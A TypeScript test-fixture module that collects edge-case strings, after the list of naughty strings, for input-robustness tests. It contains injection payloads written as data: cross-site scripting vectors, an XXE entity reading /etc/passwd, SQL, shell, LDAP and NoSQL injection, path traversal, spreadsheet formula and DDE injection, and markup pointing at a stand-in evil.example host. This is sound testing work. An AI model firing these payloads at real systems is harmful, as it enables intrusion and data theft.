/**
 * Texts that break programs, after the headings of the public list of naughty strings, written anew. None of them is
 * put into a program, a path or a shell; they are what somebody may type or paste into a field. Used by
 * tests/corpora.test.ts.
 */

const words = (text: string): readonly string[] => text.split(' ');
const lines = (text: string): readonly string[] => text.trim().split('\n');
const times = (text: string, count: number): string => text.repeat(count);
const characters = (from: number, to: number): string =>
  String.fromCodePoint(...Array.from({ length: to - from + 1 }, (_, at) => from + at));

const RESERVED = words(
  'undefined undef null NULL Null (null) nil NIL none None true TRUE True false FALSE yes Yes no No on off NaN Infinity -Infinity hasOwnProperty __proto__ constructor prototype toString valueOf then length this new class function return var let async await eval arguments globalThis window document process require module exports default',
);

const NUMBERS = words(
  "0 1 -1 +1 1.00 $1.00 1/2 1E2 1E02 1E+02 -1.00 -$1.00 -1/2 -1E2 1/0 0/0 -2147483648/-1 0.00 0..0 . 0.0.0 0,00 0,,0 , 0,0,0 0.0/0 1.0/0.0 0.0/0.0 1,0/0,0 --1 - -. -, 999999999999999999999999999999 9007199254740993 4294967296 NaN -Infinity INF 1#INF -1#IND 1#QNAN 1#SNAN 1#IND 0x0 0xffffffff 0xffffffffffffffff 0xabad1dea 0b101 0o17 123456789012345678901234567890123456789 1,000.00 1_000.00 1'000.00 1.000,00 01000 08 09 2.2250738585072011e-308 1e400 ١٢٣ १२३ ➊➋ ½ ⅓ Ⅻ ²³ 〇一二 壹贰叁 ㊀㊁",
);

const SYMBOLS = [
  ...lines(`,./;'[]-=
<>?:"{}|_+
!@#$%^&*()\`~
Ω≈ç√∫˜µ≤≥÷
åß∂ƒ©˙∆˚¬…æ
œ∑´®†¥¨ˆøπ“‘
¡™£¢∞§¶•ªº–≠
¸˛Ç◊ı˜Â¯˘¿
ÅÍÎÏ˝ÓÔÒÚÆ☃
Œ„´‰ˇÁ¨ˆØ∏”’
⁄€‹›ﬁﬂ‡°·‚—±
⅛⅜⅝⅞
ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏАБВГДЕЖЗ
٠١٢٣٤٥٦٧٨٩
⁰⁴⁵₀₁₂
‹›«»„“
'
"
''
""
'"'
"''''"'"
"'"'"''''"
\\
\\\\
\\n
\\0
%
%%
%d%s%n
%x('ls')
$HOME
\${7*7}
#{7*7}
{{7*7}}
{% raw %}
<%= 7*7 %>
[[$.a]]
|
||
&
&&
;
:
::
#
##
*
**
_
__
~
~~
\`
\`\`\`
---
***
+++
===
...
- 
- [ ]
1.
> 
#1
!
![
[
]
](
()
{}
[]
@
@all
@here
`),
];

const LANGUAGES = [
  ...lines(`田中さんにあげて下さい
パーティーへ行かないか
和製漢語
部落格
사회과학원 어학연구소
찦차를 타고 온 펲시맨과 쑛다리 똠방각하
社會科學院語學研究所
울란바토르
𠜎𠜱𠝹𠱓𠱸𠲖𠳏
㐀㐁㐂
Ⱥ
Ⱦ
ヽ༼ຈل͜ຈ༽ﾉ ヽ༼ຈل͜ຈ༽ﾉ
(｡◕ ∀ ◕｡)
｀ｨ(´∀｀∩
__ﾛ(,_,*)
・(￣∀￣)・:*:
ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ
,。・:*:・゜’( ☻ ω ☻ )。・:*:・゜’
(╯°□°）╯︵ ┻━┻
(ﾉಥ益ಥ）ﾉ ┻━┻
┬─┬ノ( º _ ºノ)
( ͡° ͜ʖ ͡°)
¯\\_(ツ)_/¯
😍
👩🏽
👾 🙇 💁 🙅 🙆 🙋 🙎 🙍
🐵 🙈 🙉 🙊
✋🏿 💪🏿 👐🏿 🙌🏿 👏🏿 🙏🏿
🚾 🆒 🆓 🆕 🆖 🆗 🆙 🏧
🇨🇳🇺🇸🇷🇺🇸
🇨🇳🇺
１２３
١٢٣
ثم نفس سقطت وبالتحديد،
בְּרֵאשִׁית, בָּרָא אֱלֹהִים
הָיְתָהtestالصفحات التّحول
﷽
ﷺ
مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ
ⲁⲃⲅ
ᚠᛇᚻ
᚛ᚄᚓᚐᚋ᚜
ꙮ
𒐫
𝓣𝓱𝓮 𝓺𝓾𝓲𝓬𝓴
𝕿𝖍𝖊
𝚃𝚑𝚎
⒯⒣⒠
Ｔｈｅ　ｑｕｉｃｋ
ʇǝɯɐ ʇᴉs
ı İ ß ẞ ſ ﬃ
ǆ ǅ Ǆ
K Å Ω
`),
];

/** Written as numbers, because an editor would not show them. */
const UNSEEN = [
  ...[
    characters(0x01, 0x08),
    '\u000b\u000c',
    characters(0x0e, 0x1f),
    '\u007f',
    characters(0x80, 0x84),
    '\u0085',
  ],
  ...[
    characters(0x86, 0x9f),
    '\u00a0',
    '\u00ad',
    '\u1680',
    '\u180e',
    characters(0x2000, 0x200a),
    '\u200b',
    '\u200c\u200d',
  ],
  ...[
    '\u200e\u200f',
    '\u2028',
    '\u2029',
    '\u202atest\u202a',
    '\u202btest\u202b',
    '\u2066test\u2067',
    '\u202f',
    '\u205f',
  ],
  ...[
    '\u2060',
    '\u2061\u2062\u2063\u2064',
    '\u206a\u206f',
    '\u3000',
    '\ufeff',
    '\ufffe',
    '\uffff',
    '\ufff9\ufffa\ufffb',
  ],
  ...[
    '\ufffd',
    '\u061c',
    '\u034f',
    '\u115f\u1160',
    '\u3164',
    '\uffa0',
    '\u2800',
    '\u{e0001}',
    '\u{e0020}\u{e007f}',
    '\u{1fffe}',
  ],
  ...[
    '\u{10ffff}',
    '\ue000',
    '\u{f0000}',
    '甲\u200b乙',
    '\u202e乙甲',
    '甲\u0000乙',
    '\u001b[31m红\u001b[0m',
    '\u001b]0;题\u0007',
    '\u0007',
  ],
  ...[
    'a\u0300\u0301\u0302\u0303\u0304\u0305',
    `老${times('\u0489', 60)}`,
    '\r\n',
    '\r',
    '\n',
    '\t',
    ' \t \t ',
    '\u2003甲\u2003',
    '👨\u200d👩\u200d👧',
    '❤\ufe0f',
  ],
  ...['\u0c1c\u0c4d\u0c1e\u200c\u0c3e', '\ud800', '\udc00\ud800'],
];

const MARKUP = lines(`<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
<svg><script>1<1>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
< / script >< script >alert(1)< / script >
 onfocus=alert(1) autofocus
" onfocus=alert(1) autofocus 
' onfocus=alert(1) autofocus 
＜script＞alert(1)＜/script＞
<sc<script>ript>alert(1)</sc</script>ript>
--><script>alert(1)</script>
";alert(1);t="
';alert(1);t='
JavaSCript:alert(1)
;alert(1);
src=JaVaSCript:prompt(1)
"><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src="x:x" onerror="alert(1)">
<img \`\`x="y" onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<a href="javascript:alert(1)">x</a>
<a href="\\x0Bjavascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<object data="data:text/html,x"></object>
<embed src="//evil.example">
<link rel=stylesheet href=//evil.example>
<meta http-equiv="refresh" content="0;url=//evil.example">
<base href="//evil.example/">
<style>@import '//evil.example'</style>
<form action="//evil.example"><input name=a></form>
<plaintext>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
<b onmouseover=alert(1)>x</b>
<custom-element onclick=alert(1)>x</custom-element>
[x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](https://evil.example/x.png)
![x](x"onerror="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
<https://evil.example/" onmouseover="alert(1)>
https://evil.example/?a=<script>
www.evil.example
//evil.example
&#60;script&#62;
&#x3C;script&#x3E;
\\x3cscript\\x3e
\\u003cscript\\u003e
%3Cscript%3E
&notanentity;
&#0;
&#xD800;
&#x110000;
&amp;amp;amp;
`);

const COMMANDS = lines(`1;DROP TABLE users
1'; DROP TABLE users-- 1
' OR 1=1 -- 1
' OR '1'='1
'; EXEC xp_cmdshell('dir'); --
%
_
-
--
--version
--help
$USER
/dev/null; touch /tmp/x ; echo
\`touch /tmp/x\`
$(touch /tmp/x)
@{[system "touch /tmp/x"]}
eval("puts 'x'")
System("ls -al /")
\`ls -al /\`
Kernel.exec("ls -al /")
() { 0; }; touch /tmp/x;
() { _; } >_[$($())] { touch /tmp/x; }
<<< %s(un='%s') = %u
+++ATH0
../../../../../../../../../../../etc/passwd%00
../../../../../../../../../../../etc/hosts
..\\..\\..\\windows\\win.ini
/etc/passwd
file:///etc/passwd
\\\\evil.example\\share
C:\\CON\\CON
CON
PRN
AUX
NUL
COM1
LPT1
CLOCK$
A:
ZZ:
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example","x")
+1+1
-1+1
@SUM(1+1)
\t=1+1
DDE ("cmd";"/C calc";"x")
IMPORTXML("https://evil.example","//a")
{"$gt": ""}
{"$where": "sleep(1000)"}
*)(uid=*))(|(uid=*
<!--#exec cmd="ls"-->
::error file=x::y
::set-output name=a::b
##[error]x
::stop-commands::x
GIT_SSH_COMMAND=x
-oProxyCommand=x
refs/heads/main
HEAD~1
:(exclude)x
a@b:c
$IFS
^C
`);

const DATA = [
  ...lines(`{"a": 1}
[1, 2]
a: b
a: b: c
- a
? a
| a
> a
& a
* a
! a
%YAML 1.2
--- a
a #b
#a
"a
'a
a: "b
[a
{a
@a
!!js/function x
*alias
&anchor a
<<: *x
key: |
2026-13-45
2026-02-30
0000-00-00
99:99:99
金政[2021]22号
〔2021〕
，。；：、
“”‘’
（）【】
……——
　　甲
甲　乙
`),
  times('甲', 3_000),
  times('a', 20_000),
  times('甲 ', 1_000),
  times('[', 2_000),
  times('(', 2_000),
  times('*', 2_000),
  times('<', 2_000),
  times('&', 2_000),
  times('a@', 1_000),
  times('1-', 1_000),
  times('甲\n', 500),
];

/** All of them, each once. */
export const NAUGHTY: readonly string[] = [
  ...new Set([...RESERVED, ...NUMBERS, ...SYMBOLS, ...LANGUAGES, ...UNSEEN, ...MARKUP, ...COMMANDS, ...DATA]),
];
